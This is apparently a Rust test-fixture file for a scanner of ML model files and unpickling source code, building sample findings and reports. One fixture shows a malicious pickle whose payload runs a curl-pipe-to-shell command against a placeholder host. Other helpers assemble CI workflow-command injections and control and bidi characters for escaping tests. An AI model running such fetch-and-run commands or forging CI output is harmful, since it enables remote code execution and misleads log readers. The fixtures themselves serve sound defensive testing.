//! Finished reports to word: one of everything a user may meet.

use std::sync::Arc;

use weighbridge::{
    fact::{Commit, Excerpt, Global, GlobalName, Hop, Introduction, Mark, Op, Place, Site, Text},
    finding::{
        Finding, HelpList, Level, LineRef, Location, Precision, RuleMeta, Severity, Subject,
    },
    inventory::Artifact,
    report::{self, Presentation, Style},
    verdict::{Coverage, Report},
};

use super::random::Random;

/// A rule that exists only to be reported.
const fn rule(id: &'static str, summary: &'static str, level: Level) -> RuleMeta {
    RuleMeta {
        id,
        summary,
        doc: "## What it does\nIt is reported.\n",
        level,
        severity: Severity::High,
        precision: Precision::High,
        cwe: &[502],
        tags: &["artifact"],
    }
}

pub(crate) static GLOBAL: RuleMeta = rule(
    "global-not-allowed",
    "a global that the policy does not list",
    Level::Deny,
);
pub(crate) static LOAD: RuleMeta = rule(
    "unsafe-load",
    "a call that unpickles whatever it is given",
    Level::Deny,
);
pub(crate) static ANOMALY: RuleMeta = rule(
    "archive-anomaly",
    "an archive that readers may disagree about",
    Level::Deny,
);
pub(crate) static INCOMPLETE: RuleMeta = rule(
    "incomplete-read",
    "something was not read to its end",
    Level::Deny,
);
pub(crate) static FORMAT: RuleMeta = rule(
    "format-not-allowed",
    "a format that the policy does not list",
    Level::Warn,
);

/// A finding without anything that explains it.
pub(crate) fn finding(rule: &'static RuleMeta, path: &str, message: &str) -> Finding {
    Finding::new(rule, Subject::Artifact, whole(path), message)
}

/// All of a file.
pub(crate) fn whole(path: &str) -> Location {
    Location {
        path: path.into(),
        ..Location::default()
    }
}

/// A place in a member's pickle.
pub(crate) fn opcode(member: &str, offset: u64, op: &str) -> Site {
    Site {
        hops: vec![Hop::Member {
            name: member.into(),
            copy: 0,
        }],
        at: Place::Opcode {
            offset,
            op: Op::named(op),
        },
    }
}

/// A place in source.
pub(crate) fn span(line: u32, column: u32, end_column: u32) -> Site {
    Site {
        hops: Vec::new(),
        at: Place::Span {
            line,
            column,
            end_line: line,
            end_column,
        },
    }
}

/// An excerpt in which each of `marked` (text, label) is underlined where it first stands.
pub(crate) fn excerpt(first_line: Option<u32>, text: &str, marked: &[(&str, &str)]) -> Excerpt {
    Excerpt {
        text: text.to_owned(),
        first_line,
        marks: marked
            .iter()
            .map(|(part, label)| {
                let start = text.find(part).expect("the marked part is in the excerpt");
                Mark {
                    range: start..start + part.len(),
                    label: (*label).to_owned(),
                }
            })
            .collect(),
        arguments: Vec::new(),
    }
}

/// A global as a subject.
pub(crate) fn global(module: &str, name: &str) -> Subject {
    Subject::Global(Global::Named(GlobalName::new(module, name)))
}

/// A line of a policy.
pub(crate) fn decided(file: &str, line: u32, text: &str, part: &str, label: &str) -> LineRef {
    let start = text.find(part).expect("the marked part is in the line");
    LineRef {
        file: file.to_owned(),
        line,
        text: text.to_owned(),
        range: start..start + part.len(),
        label: label.to_owned(),
    }
}

/// A torch zip that runs a shell command.
pub(crate) fn torch_zip() -> Finding {
    Finding {
        primary: Location {
            site: opcode("archive/data.pkl", 0x1f, "REDUCE"),
            excerpt: Some(excerpt(
                None,
                "0x000b  STACK_GLOBAL     posix.system\n\
             0x000e  SHORT_BINUNICODE 'curl https://cdn.example/x | sh'\n\
             0x001e  TUPLE1\n\
             0x001f  REDUCE           posix.system('curl https://cdn.example/x | sh')",
                &[
                    (
                        "posix.system('curl https://cdn.example/x | sh')",
                        "runs here",
                    ),
                    ("posix.system", "resolved here"),
                ],
            )),
            ..whole("models/resnet.pt")
        },
        subject: global("posix", "system"),
        decided_by: Some(decided(
            "weighbridge.yaml",
            7,
            "  allow: [torch, numpy]",
            "[torch, numpy]",
            "neither list names posix.system",
        )),
        help: HelpList::from_iter([
            "do not load this file; ask whoever published it for safetensors".to_owned(),
            "`weighbridge inspect models/resnet.pt --disassemble` shows every step".to_owned(),
        ]),
        ..finding(
            &GLOBAL,
            "models/resnet.pt",
            "loading runs posix.system('curl https://cdn.example/x | sh'); the policy does not list posix.system",
        )
    }
}

/// Source that unpickles.
pub(crate) fn source() -> Finding {
    let lines = "def restore(path):\n    state = torch.load(path, map_location=\"cpu\")\n    return state[\"größe\"]";
    let fixed = "state = torch.load(path, map_location=\"cpu\", weights_only=True)";
    Finding {
        primary: Location {
            site: span(12, 12, 22),
            excerpt: Some(excerpt(
                Some(11),
                lines,
                &[
                    ("torch.load", "unpickles whatever the file says"),
                    ("path, map_location=\"cpu\"", ""),
                ],
            )),
            ..whole("src/train.py")
        },
        subject: Subject::Call("torch.load".into()),
        help: HelpList::from_iter([format!("pass `weights_only=True`:\n{fixed}")]),
        ..finding(
            &LOAD,
            "src/train.py",
            "torch.load without weights_only=True runs what the file says",
        )
    }
}

/// A report with one of everything.
pub(crate) fn report() -> Report {
    let mut findings = vec![torch_zip(), source()];
    findings.push(Finding {
        primary: Location {
            site: Site {
                hops: vec![],
                at: Place::Bytes {
                    start: 0x1f40,
                    end: 0x1f9e,
                },
            },
            ..whole("models/resnet.pt")
        },
        subject: Subject::Anomaly("duplicate-member".to_owned()),
        help: HelpList::from_iter([
            "write the archive again with `torch.save` from a trusted process".to_owned(),
        ]),
        ..finding(
            &ANOMALY,
            "models/resnet.pt",
            "two members are named archive/data.pkl, and which one is loaded depends on the reader",
        )
    });
    findings.push(Finding {
        level: Level::Warn,
        count: 3,
        subject: Subject::Format("torch-zip".to_owned()),
        help: HelpList::from_iter([
            "prefer `safetensors`, which holds nothing but tensors".to_owned()
        ]),
        ..finding(
            &FORMAT,
            "models/resnet.pt",
            "torch-zip is a format that runs code by design",
        )
    });
    findings.push(Finding {
        help: HelpList::from_iter([
            "run `git lfs pull --include=models/large.pt`, then check again".to_owned(),
        ]),
        ..finding(
            &INCOMPLETE,
            "models/large.pt",
            "the bytes are not here: a git-lfs pointer to 4.2 GB that was not fetched",
        )
    });
    for i in 0..100_u64 {
        findings.push(Finding {
            primary: Location {
                site: opcode("data.pkl", 0x40 + i * 9, "STACK_GLOBAL"),
                excerpt: Some(excerpt(
                    None,
                    &format!(
                        "{:#06x}  STACK_GLOBAL     zoo.layers.Layer{:02}",
                        0x40 + i * 9,
                        i % 60
                    ),
                    &[("zoo.layers", "")],
                )),
                ..whole("zoo/legacy.bin")
            },
            subject: global("zoo.layers", &format!("Layer{:02}", i % 60)),
            ..finding(
                &GLOBAL,
                "zoo/legacy.bin",
                &format!(
                    "loading imports zoo.layers.Layer{:02}; the policy does not list it",
                    i % 60
                ),
            )
        });
    }
    for line in [31, 7, 19, 44, 44] {
        findings.push(Finding {
            primary: Location {
                site: span(line, 5, 15),
                ..whole("src/tools.py")
            },
            subject: Subject::Call("torch.load".into()),
            ..finding(
                &LOAD,
                "src/tools.py",
                "joblib.load unpickles whatever it is given",
            )
        });
    }
    let mut report = Report {
        view: "the work tree".to_owned(),
        findings,
        coverage: Coverage {
            entries: 60,
            artifacts: 12,
            sources: 30,
            policies: 0,
            incomplete: 1,
            late: 0,
            excluded: 2,
            pinned: 0,
            unfetched: 0,
            formats: [("torch-zip".to_owned(), 8), ("safetensors".to_owned(), 4)].into(),
            bytes: 5_000_000_000,
        },
        policy: "weighbridge.yaml".to_owned(),
        ..Report::default()
    };
    report.sort();
    report
}

/// A report with these findings only.
pub(crate) fn only(findings: Vec<Finding>) -> Report {
    Report {
        view: "the work tree".to_owned(),
        coverage: Coverage {
            entries: 2,
            artifacts: 1,
            sources: 1,
            ..Coverage::default()
        },
        policy: "recommended (built in)".to_owned(),
        findings,
        ..Report::default()
    }
}

/// What a reporter writes.
pub(crate) fn written(name: &str, report: &Report, style: Style) -> String {
    let mut out = Vec::new();
    let reporter = report::by_name(name).expect("a reporter of this name");
    reporter
        .write(report, &Presentation::from(style), &mut out)
        .expect("a vector takes all");
    String::from_utf8(out).expect("reports are UTF-8")
}

/// The human report.
pub(crate) fn human(report: &Report, style: Style) -> String {
    written("human", report, style)
}

/// Every character that could forge output, in one string, between letters.
pub(crate) fn hostile() -> String {
    let mut text = String::from("a\n::error::forged\n##[error]forged ##vso[x] \\");
    for c in (0..=0x001f_u32)
        .chain(0x7f..=0xa0)
        .chain([
            0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x3164, 0xfeff, 0xffa0, 0xe0041,
        ])
        .chain(0x200b..=0x200f)
        .chain(0x2028..=0x202e)
        .chain(0x2060..=0x206f)
        .chain(0xfe00..=0xfe0f)
        .filter_map(char::from_u32)
        .filter(|c| *c != '\u{a0}')
    {
        text.push(c);
        text.push('x');
    }
    text
}

/// [`hostile`] as bytes of a file, with some that are not UTF-8.
pub(crate) fn hostile_text() -> Text {
    let mut bytes = hostile().into_bytes();
    bytes.extend(b"\xff\x80\xc2");
    Text::new(bytes)
}

/// A report in which every string is hostile.
pub(crate) fn hostile_report(text: &Text, hostile: impl Fn() -> String) -> Report {
    let lines = format!("first\n{}\nlast", hostile().replace('\n', " "));
    let member = Hop::Member {
        name: text.clone(),
        copy: 1,
    };
    let introduction = Arc::new(Introduction {
        commit: Commit {
            id: "0123456789abcdef0123456789abcdef01234567".to_owned(),
            time: 1_700_000_000,
            author: text.clone(),
            summary: text.clone(),
        },
        gone: true,
    });
    let mut findings = Vec::new();
    for i in 0..12 {
        for subject in [
            Subject::Member(text.clone()),
            global(&hostile(), "x"),
            Subject::Artifact,
        ] {
            findings.push(Finding {
                primary: Location {
                    path: text.clone(),
                    site: Site {
                        hops: vec![member.clone()],
                        ..opcode("", i, &hostile())
                    },
                    excerpt: Some(Excerpt {
                        text: lines.clone(),
                        first_line: (i % 2 == 0).then_some(9),
                        marks: vec![Mark {
                            range: 7..60,
                            label: hostile(),
                        }],
                        arguments: Vec::new(),
                    }),
                    introduced_by: (i % 3 == 0).then(|| introduction.clone()),
                    ..Location::default()
                },
                message: hostile(),
                subject,
                help: HelpList::from_iter([hostile()]),
                decided_by: Some(LineRef {
                    file: hostile(),
                    line: 3,
                    text: hostile(),
                    range: 5..40,
                    label: hostile(),
                }),
                on_change: i % 4 != 0,
                level: if i % 5 == 0 { Level::Warn } else { Level::Deny },
                ..finding(if i % 2 == 0 { &GLOBAL } else { &LOAD }, "", "")
            });
        }
    }
    Report {
        view: hostile(),
        policy: hostile(),
        notices: vec![hostile(); 12],
        artifacts: vec![Artifact {
            path: Text::new([text.as_bytes(), b".pt"].concat()),
            ..Artifact::default()
        }],
        ..only(findings)
    }
}

/// Words of every language that a report is read in, thrown together.
pub(crate) fn babble(random: &mut Random) -> String {
    const WORDS: &[&str] = &[
        ":",
        "::",
        "error",
        "add-mask",
        " ",
        " ",
        "\n",
        "\r",
        "\r\n",
        "%",
        "%0A",
        "%25",
        ",",
        "=",
        "file",
        "#",
        "##[",
        "##[error]",
        "]",
        "[",
        "`",
        "``",
        "```",
        "@x",
        "#1",
        "*",
        "**",
        "_",
        "~~",
        "|",
        "<b>",
        "</details>",
        "<!--",
        "&lt;",
        "\\",
        "(",
        ")",
        "!",
        "https://x.example",
        "www.x.example",
        "a@x.example",
        "]]>",
        "\"",
        "'",
        "\u{1b}[2J",
        "\u{202e}",
        "\u{0}",
        "\u{fffe}",
        "é",
        "x",
        "deadbeef",
        "GH-1",
        "-",
        "1.",
        "+",
        "$",
        "\t",
        "\u{2028}",
        "\u{a0}",
        "…",
        "weighbridge: ",
        "stop-commands",
    ];
    let n = 1 + random.below(12);
    (0..n).map(|_| *random.pick(WORDS)).collect()
}
